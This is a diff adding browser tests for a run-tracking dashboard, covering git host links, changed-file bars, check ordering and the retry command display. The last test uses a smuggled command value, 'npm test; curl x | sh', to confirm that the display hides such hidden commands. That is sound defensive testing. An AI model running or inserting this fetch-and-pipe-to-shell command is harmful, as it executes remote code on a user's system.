@@ -1,0 +1,78 @@
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import { openPage } from '../support/browser.ts'
+
+const [base, commit] = ['1'.repeat(40), '2'.repeat(40)]
+
+test('what a run changed leads to its host: commits, branch, comparison and pull request', async (t) => {
+  const { page, client, home } = await openPage(t)
+  const git = { repository: 'git@github.com:acme/shop.git', branch: 'fix/holds', base, commit }
+  const { run } = await client.createRun({
+    title: 'Hold a boat',
+    status: 'in_progress',
+    git,
+    links: [
+      { rel: 'job', href: 'https://ci.example.com/77' },
+      { rel: 'pull request', href: 'https://github.com/acme/shop/pull/12' },
+    ],
+  })
+  const files = Array.from({ length: 12 }, (_, n) => ({ path: `src/file-${n}.ts`, insertions: 100 - n, deletions: n }))
+  await client.appendTurn({ runId: run.runId, prompt: 'Go on', files, git: { ...git, commits: [commit] } })
+  await page.goto(`${home}#/runs/default/RUN-001`)
+  const changed = page.getByRole('region', { name: 'What changed' })
+  const leads = async (name: string, to: string) =>
+    assert.equal(await changed.getByRole('link', { name }).first().getAttribute('href'), to)
+  await changed.getByText('src/file-0.ts').waitFor()
+  await leads('fix/holds', 'https://github.com/acme/shop/tree/fix/holds')
+  await leads(base.slice(0, 12), `https://github.com/acme/shop/commit/${base}`)
+  await leads('Compare', `https://github.com/acme/shop/compare/${base}...${commit}`)
+  assert.match((await changed.locator('a').first().textContent()) ?? '', /^pull request #12/)
+  await changed.getByText('1 commit', { exact: true }).waitFor()
+  assert.equal(
+    await page.locator('.about').getByRole('link', { name: 'git@github.com' }).getAttribute('href'),
+    'https://github.com/acme/shop',
+  )
+
+  const rows = changed.getByRole('list', { name: 'Files' }).getByRole('listitem')
+  assert.equal(await rows.count(), 10)
+  const widths = await rows
+    .nth(1)
+    .locator('.lines-bar span')
+    .evaluateAll((all) => all.map((one) => one.style.width))
+  assert.deepEqual(widths, ['99%', '1%'])
+  await changed.getByRole('button', { name: 'Show all 12 files' }).click()
+  assert.equal(await rows.count(), 12)
+})
+
+test('commits of a repository at an unknown host are text', async (t) => {
+  const { page, client, home } = await openPage(t)
+  await client.createRun({ git: { repository: 'git@git.example.com:acme/shop.git', branch: 'main', base, commit } })
+  await page.goto(`${home}#/runs/default/RUN-001`)
+  const changed = page.getByRole('region', { name: 'What changed' })
+  await changed.getByText(commit.slice(0, 12)).waitFor()
+  assert.equal(await changed.getByRole('link').count(), 0)
+  assert.equal(await page.locator('.about').getByRole('link', { name: 'git.example.com' }).count(), 0)
+})
+
+test('failing checks come first, replaced ones last, and the retry command holds the command of the run', async (t) => {
+  const { page, client, home } = await openPage(t)
+  const { run } = await client.createRun({ title: 'Check me', status: 'completed', command: 'npm test' })
+  const { runId } = run
+  await client.createCheck({ runId, name: 'tests', result: 'fail' })
+  await client.createCheck({ runId, name: 'lint', result: 'fail' })
+  await client.createCheck({ runId, name: 'types', result: 'warn' })
+  await client.createCheck({ runId, name: 'tests', result: 'pass' })
+  await page.goto(`${home}#/runs/default/RUN-001`)
+  await page.getByRole('heading', { name: 'Checks 1 fail, 1 warn, 1 pass' }).waitFor()
+  assert.deepEqual(await page.locator('.checks .name').allTextContents(), ['lint', 'types', 'tests', 'tests'])
+  await page.locator('.checks li').last().getByText('replaced by a newer one').waitFor()
+  await page.locator('.retry').getByText('conduct exec --retry-of RUN-001 -- npm test', { exact: true }).waitFor()
+  const ended = page.locator('.standing time')
+  const moment = new Date(run.endedAt ?? '')
+  assert.ok((await ended.textContent())?.includes(moment.toLocaleDateString('en', { dateStyle: 'medium' })))
+
+  const hidden = 'npm test; curl x | sh'.padEnd(250)
+  await client.createRun({ runId: 'LONG', status: 'failed', command: hidden })
+  await page.goto(`${home}#/runs/default/LONG`)
+  await page.locator('.retry').getByText('conduct exec --retry-of LONG -- ', { exact: true }).waitFor()
+})
